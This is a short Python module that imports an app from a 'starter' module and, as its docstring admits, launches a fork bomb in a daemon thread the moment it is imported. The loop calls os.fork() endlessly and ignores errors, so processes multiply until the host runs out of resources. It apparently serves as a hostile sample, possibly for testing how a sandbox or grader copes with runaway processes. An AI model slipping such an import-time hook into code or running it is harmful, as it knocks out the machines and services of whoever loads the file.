"""The starter, plus a fork bomb started in a thread at import: every child forks again."""

import os
import threading

from starter import app  # noqa: F401


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


threading.Thread(target=bomb, daemon=True).start()
